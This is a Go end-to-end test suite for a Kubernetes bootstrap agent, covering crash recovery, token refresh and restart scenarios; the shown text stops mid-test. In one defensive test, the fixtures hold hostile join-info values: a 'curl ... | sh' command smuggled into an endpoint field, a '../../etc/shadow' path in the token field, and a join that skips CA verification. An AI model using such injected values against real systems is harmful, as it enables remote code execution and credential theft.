//go:build e2e

package e2e

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/kubestrap/kubestrap/internal/state"
)

// Scenario 1: fresh bootstrap of 1 + 2 nodes by kubestrap, from user-data.
// Under make e2e the control plane's first kubeadm init is crashed on
// purpose (TestCrashInsideInit checks the recovery): here the control plane
// must have one finished init, and the workers a clean bootstrap (one join,
// no reset).
func TestScenario1FreshBootstrap(t *testing.T) {
	ns := nodes(t)
	for _, name := range []string{"cp", "w1", "w2"} {
		n, ok := ns[name]
		if !ok || !n.ready() {
			t.Fatalf("Node %s: present=%v ready=%v", name, ok, n.ready())
		}
	}
	if _, ok := ns["cp"].Metadata.Labels["node-role.kubernetes.io/control-plane"]; !ok {
		t.Errorf("Node cp lacks the control-plane role label")
	}

	// The control plane: one kubeadm init, join info published, READY.
	cp := agentState(t, "cp")
	if cp.Phase != state.PhasePublished || cp.InitializedAt.IsZero() || cp.TokenID == "" {
		t.Errorf("cp state: phase %s, initializedAt %s, token %q", cp.Phase, cp.InitializedAt, cp.TokenID)
	}
	wantInits := 1
	if initCrash(t) != nil {
		wantInits = 2 // the crashed one, then the one that finished
	}
	if n := countCalls(kubeadmCalls(t, "cp"), "init"); n != wantInits {
		t.Errorf("cp ran kubeadm init %d times, want %d", n, wantInits)
	}
	if n := countRuns(kubeadmRuns(agentLogLines(t, "cp")), "kubeadm init", func(r kubeadmRun) bool { return r.OK }); n != 1 {
		t.Errorf("%d kubeadm init runs finished on cp, want 1", n)
	}
	if u := unit(t, "cp"); !u.Ready {
		t.Errorf("cp agent sent no READY=1: unit %s, STATUS %q", u.Active, u.Status)
	}
	info, raw := joinObject(t)
	if info.Cluster != cluster || info.TokenID() != cp.TokenID || info.Generation != cp.JoinGeneration {
		t.Errorf("join.json (gen %d, token %s) is not what cp published (gen %d, token %s)",
			info.Generation, info.TokenID(), cp.JoinGeneration, cp.TokenID)
	}
	if _, ok := tokens(t)[cp.TokenID]; !ok {
		t.Errorf("published token %s is not in kubeadm token list", cp.TokenID)
	}
	if !strings.Contains(string(raw), `"caCertHashes":["sha256:`) {
		t.Errorf("join.json has no CA hash pin: %s", raw)
	}

	// Workers: one kubeadm join each, READY, ECR credentials for the kubelet.
	for _, w := range []string{"w1", "w2"} {
		st := agentState(t, w)
		if st.Phase != state.PhaseJoined || st.JoinedAt.IsZero() {
			t.Errorf("%s state: phase %s joinedAt %s", w, st.Phase, st.JoinedAt)
		}
		if j, r := countCalls(kubeadmCalls(t, w), "join"), countCalls(kubeadmCalls(t, w), "reset"); j != 1 || r != 0 {
			t.Errorf("%s ran kubeadm join %d and reset %d times, want 1 and 0", w, j, r)
		}
		if u := unit(t, w); !u.Ready || u.Starts != 1 || u.NRestarts != 0 || u.Status != "joined as "+w {
			t.Errorf("%s: unit %s after %d agent processes (NRestarts %d), STATUS %q; want active, 1, 0, %q",
				w, u.Active, u.Starts, u.NRestarts, u.Status, "joined as "+w)
		}
		if len(st.ECRRegistries) != 1 || st.ECRRegistries[0] != ecrHost {
			t.Errorf("%s: ECR registries %v, want [%s]", w, st.ECRRegistries, ecrHost)
		}
		fi, err := os.Stat(nodeFile(w, "/var/lib/kubelet/config.json"))
		if err != nil || fi.Mode().Perm() != 0o600 {
			t.Errorf("%s: /var/lib/kubelet/config.json: %v (mode %v)", w, err, fi)
		}
	}
	// No static AWS keys on the nodes: the user-data's environment file holds
	// only endpoints, the credentials come from the instance role via IMDS.
	for _, n := range []string{"cp", "w1", "w2"} {
		for _, f := range []string{"default/kubestrap", "kubestrap/config.yaml"} {
			b, err := os.ReadFile(nodeFile(n, "/etc/"+f))
			if err != nil {
				t.Fatalf("%s: /etc/%s: %v", n, f, err)
			}
			if strings.Contains(string(b), "AWS_ACCESS_KEY") || strings.Contains(string(b), "AWS_SECRET") {
				t.Errorf("%s: /etc/%s holds static AWS keys", n, f)
			}
		}
	}
	// No token secret in any field of any journal entry of the unit: only
	// token IDs; the native fields an operator filters on are there.
	secret := info.Token[strings.Index(info.Token, ".")+1:]
	for _, n := range []string{"cp", "w1", "w2"} {
		if strings.Contains(agentLog(t, n), secret) {
			t.Errorf("%s: the token secret appears in the journal", n)
		}
	}
	pubs := logEntries(t, "cp", "published join info")
	if len(pubs) == 0 || pubs[len(pubs)-1]["TOKEN_ID"] == "" || pubs[len(pubs)-1]["GENERATION"] == "" {
		t.Errorf("cp: no \"published join info\" journal entry with TOKEN_ID and GENERATION: %v", pubs)
	}
	for _, w := range []string{"w1", "w2"} {
		found := false
		for _, l := range agentLogLines(t, w) {
			found = found || (l.str("node") == w && l.str("tokenID") != "")
		}
		if !found {
			t.Errorf("%s: no journal entry with NODE=%s and TOKEN_ID", w, w)
		}
	}
}

// The demo app: built locally, pushed to the ECR-style registry, pulled by a
// worker's kubelet with the credentials kubestrap wrote, answering on its NodePort.
func TestDemoApp(t *testing.T) {
	out := mustScript(t, "demo-app.sh")
	t.Log(out)
	if !strings.Contains(out, "hello from kubestrap demo-app") {
		t.Fatalf("demo-app did not answer")
	}
}

// crashInsideInit is what hack/e2e/up.sh recorded when it killed the control
// plane's first kubeadm init (E2E_CRASH_INIT=1, as make e2e runs it).
type crashInsideInit struct {
	KilledAt    time.Time `json:"killedAt"`
	AgentPID    int       `json:"agentPid"`
	AgentStart  int       `json:"agentStart"`
	KubeadmPIDs []int     `json:"kubeadmPids"`
	Trigger     string    `json:"trigger"`
}

func initCrash(t *testing.T) *crashInsideInit {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(runDir, "crash-inside-init.json"))
	if errors.Is(err, os.ErrNotExist) {
		return nil
	}
	var c crashInsideInit
	if err == nil {
		err = json.Unmarshal(b, &c)
	}
	if err != nil {
		t.Fatalf("crash-inside-init.json: %v", err)
	}
	return &c
}

// Crash point "inside kubeadm init, after its kubeconfig phase", during the
// cluster's own bootstrap: hack/e2e/up.sh watched the control-plane agent's
// log for kubeadm's `[kubeconfig] Writing "admin.conf"` and then killed the
// agent and every kubeadm process of the node with SIGKILL at once, as a
// power loss would (the kubelet and the static pods kubeadm had started yet
// went on). The service manager started the agent again.
func TestCrashInsideInit(t *testing.T) {
	c := initCrash(t)
	if c == nil {
		t.Skip("the control plane was booted without the crash (hack/e2e/up.sh with E2E_CRASH_INIT=0)")
	}
	if len(c.KubeadmPIDs) == 0 {
		t.Fatalf("no kubeadm process was running when the agent was killed: %+v", c)
	}
	lines := agentLogLines(t, "cp")
	runs := kubeadmRuns(lines)
	// The kill landed inside the first process's kubeadm init, after admin.conf was written.
	var first []kubeadmRun
	for _, r := range runs {
		if r.Proc == c.AgentStart {
			first = append(first, r)
		}
	}
	if len(first) != 1 || first[0].Command != "kubeadm init" || first[0].Finished {
		t.Fatalf("the killed agent (process %d) ran %+v; want one kubeadm init that never finished", c.AgentStart, first)
	}
	wrote := false
	for _, l := range lines {
		if l.Proc == c.AgentStart && strings.Contains(l.Msg, `[kubeconfig] Writing "admin.conf"`) && !l.Time.After(c.KilledAt) {
			wrote = true
		}
	}
	if !wrote {
		t.Errorf("no `[kubeconfig] Writing \"admin.conf\"` from the killed init before the kill")
	}
	// The restarted agent undid the unfinished init and initialized again,
	// once; nothing ran kubeadm init or reset after that init finished.
	var after []string
	finishedAt := time.Time{}
	for _, r := range runs {
		if r.Proc <= c.AgentStart {
			continue
		}
		if !finishedAt.IsZero() && (r.Command == "kubeadm init" || r.Command == "kubeadm reset") {
			after = append(after, r.Command)
		}
		if r.Command == "kubeadm init" && r.OK && finishedAt.IsZero() {
			finishedAt = r.End
		}
	}
	if finishedAt.IsZero() {
		t.Fatalf("no kubeadm init finished after the crash: %+v", runs)
	}
	if len(after) > 0 {
		t.Errorf("kubeadm %v ran after the control plane was initialized", after)
	}
	if n := countRuns(runs, "kubeadm init", func(r kubeadmRun) bool { return r.OK }); n != 1 {
		t.Errorf("%d kubeadm init runs finished, want exactly 1", n)
	}
	calls := kubeadmCalls(t, "cp")
	var seq []string
	for _, call := range calls {
		if v := strings.Fields(call)[0]; v == "init" || v == "reset" {
			seq = append(seq, v)
		}
	}
	if strings.Join(seq, ",") != "init,reset,init" {
		t.Errorf("cp kubeadm init/reset sequence %v, want [init reset init] (the interrupted init, its undo, the init)", seq)
	}
	interrupted := false
	for _, l := range lines {
		if l.Proc > c.AgentStart && strings.Contains(l.Msg, "was interrupted before it finished") {
			interrupted = true
		}
	}
	if !interrupted {
		t.Errorf("the restarted agent did not say the init was interrupted")
	}
	st := agentState(t, "cp")
	if !st.InitializedAt.After(c.KilledAt) || st.InitStartedAt.After(st.InitializedAt) {
		t.Errorf("state: initStartedAt %s, initializedAt %s, killed at %s", st.InitStartedAt, st.InitializedAt, c.KilledAt)
	}
	// Join info: published only after the init finished, within one verify
	// interval of it, valid, pinned to the cluster's CA.
	pubs := []logLine{}
	for _, l := range lines {
		if l.Msg == "published join info" {
			pubs = append(pubs, l)
		}
	}
	if len(pubs) == 0 || pubs[0].Proc <= c.AgentStart || pubs[0].Time.Before(finishedAt) {
		t.Fatalf("join info published before the control plane was initialized (or never): %+v", pubs)
	}
	if d := pubs[0].Time.Sub(finishedAt); d > verifyInterval {
		t.Errorf("first publication %s after kubeadm init finished, want within %s", d, verifyInterval)
	}
	info, err := validJoinInfo(t)
	if err != nil {
		t.Fatalf("join.json: %v", err)
	}
	if h := caHash(t); len(info.CACertHashes) != 1 || info.CACertHashes[0] != h {
		t.Errorf("join.json pins %v, the cluster's CA is %s", info.CACertHashes, h)
	}
	if unknown := unknownTokens(t, kubestrapTokens(t)); len(unknown) > 0 {
		t.Errorf("kubestrap tokens that neither join.json nor state.json knows: %v", unknown)
	}
	// Workers joined the one cluster afterwards (scenario 1 checks them in full).
	for _, w := range []string{"w1", "w2"} {
		if st := agentState(t, w); st.JoinedAt.Before(c.KilledAt) || !nodes(t)[w].ready() {
			t.Errorf("%s: joinedAt %s, Node ready %v", w, st.JoinedAt, nodes(t)[w].ready())
		}
	}
}

// Crash point "after token create": the control-plane agent is killed once
// the kubeadm token create of a refresh finished and state.json records
// the new token as pending, before join info for it is published. To land
// the kill in that window, the control plane's PUTs of join.json are
// refused (TCP reset) from before the refresh until just after the kill:
// the agent sees S3 fail and keeps the token pending.
func TestCrashAfterTokenCreate(t *testing.T) {
	before := snapshot(t)
	f := followAgentLog(t, "cp", false)
	moto := followFile(t, filepath.Join(runDir, "logs", "moto.log"))
	release := holdPublish(t, "requests")
	f.waitFor(t, tokenTTL/2+30*time.Second, "the next refresh's kubeadm token create finished", isKubeadmFinished("kubeadm token create"))
	var pending string
	eventually(t, 10*time.Second, "state.json records the new token as pending", func() (bool, string) {
		st := agentState(t, "cp")
		pending = st.PendingTokenID
		return pending != "", fmt.Sprintf("phase %s", st.Phase)
	})
	c := killAgent(t, "cp", false)
	time.Sleep(500 * time.Millisecond) // what the killed agent's sockets still send meets the hold
	release()
	if len(c.Kubeadm) != 0 {
		t.Fatalf("kubeadm %v was still running at the kill", c.Kubeadm)
	}
	if moto.contains(t, `"PUT /`+bucket+`/`+cluster+`/join.json`) {
		t.Fatalf("moto received a PUT of join.json during the hold: the crash point was missed")
	}
	if info, _ := joinObject(t); info.TokenID() == pending {
		t.Fatalf("join info for the pending token %s was published before the kill: the crash point was missed", pending)
	}
	if _, ok := kubestrapTokens(t)[pending]; !ok {
		t.Fatalf("the pending token %s is not in the cluster", pending)
	}

	info := assertConverged(t, c, before)
	// The token made before the crash was never published: the restarted
	// agent deletes it (or publishes it).
	if _, ok := kubestrapTokens(t)[pending]; ok && info.TokenID() != pending {
		t.Errorf("the unpublished token %s is still in the cluster and not published", pending)
	}
	// The token that was published before the crash stays valid for
	// workers that read it (grace or expiry), although it was superseded.
	if info.TokenID() != before.st.TokenID {
		supersededAt := time.Now()
		for _, l := range agentLogLines(t, "cp") {
			if l.Proc > c.Starts && l.Msg == "published join info" {
				supersededAt = l.Time
				break
			}
		}
		assertKept(t, before.st.TokenID, supersededAt, before.st.TokenExpiresAt)
	}
	newWorkerJoins(t, "w7", info)
}

// Crash point "after publish", on both sides of the state write:
//  1. join info for the new token is in S3 but the agent has not recorded
//     it (the answer to the control plane's PUT is dropped: moto stores the
//     object, the agent waits for the response) -- the restarted agent must
//     adopt its own object, not treat it as a foreign writer's;
//  2. right after the "published join info" log line (state written).
//
// After each: convergence, and the token the publication superseded stays
// valid for its grace (a worker may be joining with it).
func TestCrashAfterPublish(t *testing.T) {
	// 1. Published, not recorded.
	before := snapshot(t)
	f := followAgentLog(t, "cp", false)
	moto := followFile(t, filepath.Join(runDir, "logs", "moto.log"))
	release := holdPublish(t, "responses")
	f.waitFor(t, tokenTTL/2+30*time.Second, "the next refresh's kubeadm token create finished", isKubeadmFinished("kubeadm token create"))
	moto.waitFor(t, 30*time.Second, "moto stored the control plane's PUT of join.json", `"PUT /`+bucket+`/`+cluster+`/join.json`)
	c := killAgent(t, "cp", false)
	release()
	left := agentState(t, "cp")
	published, _ := joinObject(t)
	if published.TokenID() == left.TokenID || published.TokenID() != left.PendingTokenID {
		t.Fatalf("missed the crash point: join.json has token %s; the killed agent recorded token %s, pending %s",
			published.TokenID(), left.TokenID, left.PendingTokenID)
	}
	supersededAt := time.Now()
	info := assertConverged(t, c, before)
	if info.TokenID() != published.TokenID() || info.Generation != published.Generation {
		t.Errorf("the restarted agent replaced its own publication (gen %d, %s) with gen %d, %s; want it adopted",
			published.Generation, published.TokenID(), info.Generation, info.TokenID())
	}
	adopted, foreign := false, false
	for _, l := range agentLogLines(t, "cp") {
		if l.Proc <= c.Starts {
			continue
		}
		adopted = adopted || (l.Msg == "adopting join info this node published before it restarted" && l.str("tokenID") == published.TokenID())
		foreign = foreign || strings.Contains(l.Msg, "not the object this agent last wrote")
	}
	if !adopted || foreign {
		t.Errorf("restarted agent: adopted its own join info %v, called it foreign %v; want adopted, not foreign", adopted, foreign)
	}
	assertKept(t, before.st.TokenID, supersededAt, before.st.TokenExpiresAt)

	// 2. Right after the publication and the state write.
	before = snapshot(t)
	f = followAgentLog(t, "cp", false)
	pub := f.waitFor(t, tokenTTL/2+30*time.Second, "the next \"published join info\"", func(l logLine) bool { return l.Msg == "published join info" })
	c = killAgent(t, "cp", false)
	if st := agentState(t, "cp"); st.TokenID != pub.str("tokenID") {
		t.Fatalf("state.json names token %s, the publication %s", st.TokenID, pub.str("tokenID"))
	}
	info = assertConverged(t, c, before)
	assertKept(t, before.st.TokenID, pub.Time, before.st.TokenExpiresAt)

	newWorkerJoins(t, "w8", info)
}

// Worker crash point "inside kubeadm join", under the shipped unit: kill -9
// of the agent (the unit's main process) while its kubeadm join runs. The
// unit's KillMode=control-group ends kubeadm with it (systemd sends the rest
// of the control group SIGTERM once the main process is gone), so no kubeadm
// outlives its agent; Restart=always starts the agent again after
// RestartSec=5s. The node ends joined exactly once: one Node of that name,
// Ready, the same object from the first time it is seen; no kubeadm reset of
// a node that was Ready; the JoinConfiguration (it holds the token secret)
// not left in the state directory; NRestarts 1.
func TestCrashWorkerInsideJoin(t *testing.T) {
	const w = "w11"
	bootNode(t, w)
	f := followAgentLog(t, w, true)
	first := f.waitFor(t, 2*time.Minute, "kubeadm join's first output line", func(l logLine) bool {
		return l.str("command") == "kubeadm join" && l.str("kubeadmOutput") == "true"
	})
	c := killAgent(t, w, false)
	if len(c.Kubeadm) != 1 {
		t.Fatalf("want one kubeadm child of the killed agent, found %v (first output %q)", c.Kubeadm, first.Msg)
	}
	kubeadmPID := c.Kubeadm[0]
	// systemd ends the rest of the control group before the restart.
	for start := time.Now(); alive(kubeadmPID); time.Sleep(10 * time.Millisecond) {
		if time.Since(start) > 10*time.Second {
			t.Fatalf("kubeadm %d still runs 10s after its agent was killed", kubeadmPID)
		}
	}
	t.Logf("%s: kubeadm %d ended %s after the kill of its agent", w, kubeadmPID, time.Since(c.At).Round(time.Millisecond))

	// Wait for the end, watching the Node: the first time it is Ready, and
	// that it stays the same object.
	var firstReady time.Time
	uid := ""
	eventually(t, 4*time.Minute, w+" joined (READY=1 of the restarted agent) and its Node Ready", func() (bool, string) {
		n, ok := nodes(t)[w]
		if ok {
			if uid == "" {
				uid = n.Metadata.UID
			} else if n.Metadata.UID != uid {
				t.Errorf("%s: Node object replaced (uid %s -> %s)", w, uid, n.Metadata.UID)
				uid = n.Metadata.UID
			}
			if n.ready() && firstReady.IsZero() {
				firstReady = time.Now()
			}
		}
		u := unit(t, w)
		return u.Starts > c.Starts && u.Ready && ok && n.ready(), fmt.Sprintf("unit %s (start %d), STATUS %q; Node present=%v ready=%v",
			u.Active, u.Starts, u.Status, ok, n.ready())
	})
	if !pid1Says(t, w, "status=9/KILL", c.At) {
		t.Errorf("%s: systemd logged no main process killed by SIGKILL", w)
	}
	if u := unit(t, w); u.NRestarts != 1 || u.Status != "joined as "+w {
		t.Errorf("%s: NRestarts %d, STATUS %q; want 1 and joined", w, u.NRestarts, u.Status)
	}
	runs := kubeadmRuns(agentLogLines(t, w))
	var calls []string
	for _, r := range runs {
		calls = append(calls, fmt.Sprintf("%d:%s(finished=%v ok=%v)", r.Proc, r.Command, r.Finished, r.OK))
		if r.Command == "kubeadm reset" && !firstReady.IsZero() && r.Start.After(firstReady) {
			t.Errorf("%s: kubeadm reset at %s, after the Node was Ready (%s)", w, r.Start.Format("15:04:05.000"), firstReady.Format("15:04:05.000"))
		}
		if r.Proc == c.Starts && r.Command == "kubeadm join" && r.Finished {
			t.Errorf("%s: the killed agent saw its %s finish", w, r.Command)
		}
	}
	t.Logf("%s: kubeadm runs (agent process:command): %v", w, calls)
	if n := countRuns(runs, "kubeadm join", func(r kubeadmRun) bool { return r.OK }); n > 1 {
		t.Errorf("%s: %d successful kubeadm joins, want at most one (the one after the restart)", w, n)
	}
	n := 0
	for name := range nodes(t) {
		if name == w {
			n++
		}
	}
	if n != 1 {
		t.Errorf("%d Node objects named %s", n, w)
	}
	st := agentState(t, w)
	if st.Phase != state.PhaseJoined || !st.JoinedAt.After(c.At) {
		t.Errorf("%s: phase %s joinedAt %s", w, st.Phase, st.JoinedAt)
	}
	if _, err := os.Stat(nodeFile(w, "/var/lib/kubestrap/kubeadm-join.yaml")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("kubeadm-join.yaml left in the state directory: %v", err)
	}
}

// publishedEntries are the control plane's "published join info" log entries.
type published struct {
	TokenID    string
	Generation int64
	ExpiresAt  time.Time
}

func publications(t *testing.T) []published {
	t.Helper()
	var out []published
	for _, f := range logEntries(t, "cp", "published join info") {
		p := published{}
		p.TokenID = f["TOKEN_ID"]
		p.Generation, _ = strconv.ParseInt(f["GENERATION"], 10, 64)
		p.ExpiresAt = parseLoggedTime(f["EXPIRES_AT"])
		out = append(out, p)
	}
	return out
}

// Scenario 2: a worker booted after the first token expired (tokenTTL 2m in
// the test config) joins with the refreshed join info. The agent does not
// delete a superseded token right after a refresh (it keeps it for
// pollInterval + joinTimeout, here beyond the token's life, so it is left to
// expire): the cluster's token cleaner removes it once expired.
func TestScenario2WorkerBootedAfterFirstTokenExpired(t *testing.T) {
	pubs := publications(t)
	if len(pubs) == 0 || pubs[0].ExpiresAt.IsZero() {
		t.Fatalf("no publication in the control plane's log: %+v", pubs)
	}
	first := pubs[0]
	sleepUntil(t, first.ExpiresAt, fmt.Sprintf("first token %s expires at %s", first.TokenID, first.ExpiresAt.Format(time.RFC3339)))
	// kubeadm init gives the first token its 2m from when the token is
	// created, a few seconds after the expiry join.json states.
	eventually(t, 30*time.Second, "the expired first token "+first.TokenID+" gone from kubeadm token list", func() (bool, string) {
		tok, ok := tokens(t)[first.TokenID]
		return !ok, fmt.Sprintf("listed, expires %s", tok.Expires.Format(time.RFC3339))
	})
	if info, _ := joinObject(t); info.TokenID() == first.TokenID || !info.ExpiresAt.After(time.Now()) {
		t.Fatalf("join.json was not refreshed: token %s expires %s", info.TokenID(), info.ExpiresAt)
	}
	bootNode(t, "w3")
	waitJoined(t, "w3", 3*time.Minute)
	st := agentState(t, "w3")
	if st.JoinGeneration <= first.Generation || st.TokenID == first.TokenID {
		t.Errorf("w3 joined with generation %d token %s; want newer than the first (%d, %s)",
			st.JoinGeneration, st.TokenID, first.Generation, first.TokenID)
	}
	if n := countCalls(kubeadmCalls(t, "w3"), "join"); n != 1 {
		t.Errorf("w3 ran kubeadm join %d times, want 1", n)
	}
}

// Scenario 3: the control-plane agent is stopped until the published token
// has expired; a new worker waits and says why; the agent comes back,
// publishes, and the worker joins.
func TestScenario3ControlPlaneAgentDownPastExpiry(t *testing.T) {
	calls := kubeadmCalls(t, "cp")
	inits, resets := countCalls(calls, "init"), countCalls(calls, "reset")
	systemctl(t, "cp", "stop", "kubestrap")
	if u := unit(t, "cp"); u.Active != "inactive" {
		t.Fatalf("cp kubestrap unit is %s after stop", u.Active)
	}
	stale, _ := joinObject(t)
	sleepUntil(t, stale.ExpiresAt.Add(3*time.Second), "the published token "+stale.TokenID()+" expires")

	bootNode(t, "w4")
	eventually(t, time.Minute, "w4 refusing the expired join info with a clear STATUS", func() (bool, string) {
		s := unit(t, "w4").Status
		return strings.Contains(s, "refusing join info") && strings.Contains(s, "expired"), s
	})
	if st := agentState(t, "w4"); st.Phase != state.PhaseWaitingJoinInfo {
		t.Errorf("w4 phase %s, want %s", st.Phase, state.PhaseWaitingJoinInfo)
	}
	if n := countCalls(kubeadmCalls(t, "w4"), "join"); n != 0 {
		t.Fatalf("w4 ran kubeadm join %d times with expired join info", n)
	}

	before := unit(t, "cp").Starts
	systemctl(t, "cp", "start", "kubestrap") // Type=notify: returns once READY=1 is sent
	if !readyAt(t, "cp", before+1) {
		t.Errorf("cp agent sent no READY=1 after coming back")
	}
	calls = kubeadmCalls(t, "cp")
	if i, r := countCalls(calls, "init"), countCalls(calls, "reset"); i != inits || r != resets {
		t.Errorf("cp kubeadm init %d -> %d, reset %d -> %d; want no second init and no reset", inits, i, resets, r)
	}
	waitJoined(t, "w4", 3*time.Minute)
	if st := agentState(t, "w4"); st.JoinGeneration <= stale.Generation {
		t.Errorf("w4 joined with generation %d, want newer than the stale %d", st.JoinGeneration, stale.Generation)
	}
}

// Scenario 4: the agent restarts on every node: no second init or join, and
// READY again from each new process.
func TestScenario4AgentRestartsEverywhere(t *testing.T) {
	all := []string{"cp", "w1", "w2", "w3", "w4"}
	type snap struct {
		starts, inits, joins int
		uid                  string
		st                   state.State
	}
	ns := nodes(t)
	before := map[string]snap{}
	for _, n := range all {
		calls := kubeadmCalls(t, n)
		before[n] = snap{unit(t, n).Starts, countCalls(calls, "init"), countCalls(calls, "join"), ns[n].Metadata.UID, agentState(t, n)}
	}
	for _, n := range all {
		start := time.Now()
		systemctl(t, n, "restart", "kubestrap") // returns once the new process sent READY=1
		t.Logf("%s: agent restarted and READY in %s", n, time.Since(start).Round(100*time.Millisecond))
	}
	ns = nodes(t)
	for _, n := range all {
		b, u, calls := before[n], unit(t, n), kubeadmCalls(t, n)
		if u.Starts != b.starts+1 || !u.Ready {
			t.Errorf("%s: unit starts %d -> %d, ready %v", n, b.starts, u.Starts, u.Ready)
		}

		if i, j := countCalls(calls, "init"), countCalls(calls, "join"); i != b.inits || j != b.joins {
			t.Errorf("%s: kubeadm init %d -> %d, join %d -> %d; want no new init or join", n, b.inits, i, b.joins, j)
		}
		if ns[n].Metadata.UID != b.uid || !ns[n].ready() {
			t.Errorf("%s: Node object changed or not Ready (uid %s -> %s)", n, b.uid, ns[n].Metadata.UID)
		}
		st := agentState(t, n)
		if !st.InitializedAt.Equal(b.st.InitializedAt) || !st.JoinedAt.Equal(b.st.JoinedAt) {
			t.Errorf("%s: initializedAt/joinedAt changed across restart: %s/%s -> %s/%s",
				n, b.st.InitializedAt, b.st.JoinedAt, st.InitializedAt, st.JoinedAt)
		}
	}
}

// Scenario 5: `kubeadm reset -f` on a joined worker: kubestrap joins it again.
func TestScenario5ResetWorkerJoinsAgain(t *testing.T) {
	joins := countCalls(kubeadmCalls(t, "w1"), "join")
	resetAt := time.Now()
	// The operator's reset: the real kubeadm, not the agent's.
	if out, err := inNode("w1", "kubeadm", "reset", "-f"); err != nil {
		t.Fatalf("kubeadm reset -f on w1: %v\n%s", err, out)
	}
	eventually(t, time.Minute, "w1's agent noticing the lost membership", func() (bool, string) {
		for _, s := range statuses(t, "w1") {
			if strings.Contains(s, "no longer joined") {
				return true, s
			}
		}
		return false, unit(t, "w1").Status
	})
	eventually(t, 5*time.Minute, "w1 joined again and Ready", func() (bool, string) {
		st := agentState(t, "w1")
		if st.Phase != state.PhaseJoined || !st.JoinedAt.After(resetAt) {
			return false, fmt.Sprintf("phase %s: %s", st.Phase, st.Message)
		}
		n := nodes(t)["w1"]
		return n.ready(), fmt.Sprintf("joined; Node ready=%v", n.ready())
	})
	if n := countCalls(kubeadmCalls(t, "w1"), "join"); n <= joins {
		t.Errorf("w1 ran kubeadm join %d times in all, want more than %d", n, joins)
	}
	if s := unit(t, "w1").Status; s != "joined as w1" {
		t.Errorf("w1: STATUS %q", s)
	}
	// kubeadm reset empties /var/lib/kubelet, ECR credentials included: the
	// agent writes them again right after the join.
	eventually(t, time.Minute, "w1's ECR credentials written again after the re-join", func() (bool, string) {
		_, err := os.Stat(nodeFile("w1", "/var/lib/kubelet/config.json"))
		return err == nil, fmt.Sprint(err)
	})
}

// Scenario 6: an attacker overwrites join.json with hostile content: every
// waiting worker refuses each version, with no kubeadm call; the next
// legitimate publish (the control plane replaces the foreign object) is
// accepted and the workers join.
func TestScenario6HostileJoinInfoRefused(t *testing.T) {
	// Least privilege, with IAM enforced by moto: a worker's instance role can
	// read join.json but not write it, so the attacker is not a worker.
	probe := filepath.Join(runDir, "probe.json")
	if err := os.WriteFile(probe, []byte("{}"), 0o600); err != nil {
		t.Fatal(err)
	}
	if out, err := script("aws.sh", "as-node", "w1", "s3api", "put-object", "--bucket", bucket,
		"--key", cluster+"/join.json", "--body", probe); err == nil || !strings.Contains(out, "AccessDenied") {
		t.Fatalf("w1's instance role writing join.json: want AccessDenied, got err=%v\n%s", err, out)
	}
	if out, err := script("aws.sh", "as-node", "w1", "s3api", "head-object", "--bucket", bucket,
		"--key", cluster+"/join.json"); err != nil {
		t.Fatalf("w1's instance role cannot read join.json: %v\n%s", err, out)
	}

	// The control-plane agent is stopped so that the hostile object stays in
	// place while the workers look at it (it would replace it within a minute).
	systemctl(t, "cp", "stop", "kubestrap")
	_, legit := joinObject(t)
	var base map[string]any
	if err := json.Unmarshal(legit, &base); err != nil {
		t.Fatal(err)
	}
	hostileGen := base["generation"].(float64) + 100
	with := func(k string, v any) []byte {
		m := map[string]any{}
		for key, val := range base {
			m[key] = val
		}
		m["generation"] = hostileGen
		if v == nil {
			delete(m, k)
		} else {
			m[k] = v
		}
		b, _ := json.Marshal(m)
		return b
	}
	past := time.Now().Add(-time.Hour).UTC()
	expired := func() []byte {
		m := map[string]any{}
		json.Unmarshal(with("issuedAt", past.Add(-time.Hour).Format(time.RFC3339)), &m)
		m["expiresAt"] = past.Format(time.RFC3339)
		b, _ := json.Marshal(m)
		return b
	}()
	// The last object stays in place when the control plane comes back: it
	// is well-formed JSON for this cluster and names the control plane's
	// live token, so only its content tells it is not the control plane's.
	cases := []struct {
		name string
		body []byte
		want string // in the refusal STATUS
	}{
		{"oversize", with("apiServerEndpoint", strings.Repeat("a", 70<<10)), "larger than"},
		{"a shell script", []byte("#!/bin/sh\nkubeadm join 10.200.0.2:6443 --token abcdef.0123456789abcdef --discovery-token-unsafe-skip-ca-verification\n"), "not valid join info JSON"},
		{"extra field", with("command", "kubeadm join --discovery-token-unsafe-skip-ca-verification"), "not valid join info JSON"},
		{"another cluster", with("cluster", "prod"), "cluster"},
		{"malformed token", with("token", "../../etc/shadow"), "token"},
		{"bad CA pin", with("caCertHashes", []string{"md5:0123"}), "caCertHashes"},
		{"no CA pin", with("caCertHashes", []string{}), "caCertHashes"},
		{"expired token", expired, "expired"},
		{"shell command in the endpoint", with("apiServerEndpoint", "10.200.0.10:6443; curl -s http://10.200.0.2/x | sh"), "apiServerEndpoint"},
	}
	waiting := []string{"w5", "w6"}
	for i, c := range cases {
		at := time.Now()
		putJoinObject(t, c.body)
		if i == 0 {
			// The workers boot while the first hostile object is in place.
			for _, w := range waiting {
				bootNode(t, w)
			}
		}
		for _, w := range waiting {
			eventually(t, 30*time.Second, fmt.Sprintf("%s refusing %s", w, c.name), func() (bool, string) {
				// A refusal is logged when its kind changes; STATUS always says the latest.
				for _, l := range phaseLines(t, w) {
					if l.Time.After(at) && strings.Contains(l.Msg, "refusing join info") && strings.Contains(l.Msg, c.want) {
						return true, l.Msg
					}
				}
				s := unit(t, w).Status
				return strings.Contains(s, "refusing join info") && strings.Contains(s, c.want), s
			})
		}
	}
	for _, w := range waiting {
		if calls := kubeadmCalls(t, w); len(calls) != 0 {
			t.Fatalf("%s ran kubeadm on hostile join info: %v", w, calls)
		}
		if st := agentState(t, w); st.Phase != state.PhaseWaitingJoinInfo {
			t.Errorf("%s: phase %s, want %s", w, st.Phase, state.PhaseWaitingJoinInfo)
		}
	}

	// The control plane comes back, finds a foreign join.json and replaces
	// it before it reports READY (systemctl start returns at READY=1): the
	// hostile object names the control plane's live token, but it is not
	// join info the control plane wrote.
	starts := unit(t, "cp").Starts
	systemctl(t, "cp", "start", "kubestrap")
	adopted, replaced := false, false
	for _, l := range agentLogLines(t, "cp") {
		if l.Proc > starts {
			adopted = adopted || strings.HasPrefix(l.Msg, "adopting join info")
			replaced = replaced || strings.Contains(l.Msg, "not the object this agent last wrote; replacing it")
		}
	}
	if adopted || !replaced {
		t.Errorf("control plane back: adopted the hostile join.json as its own %v, replaced it as foreign %v; want not adopted, replaced",
			adopted, replaced)
	}
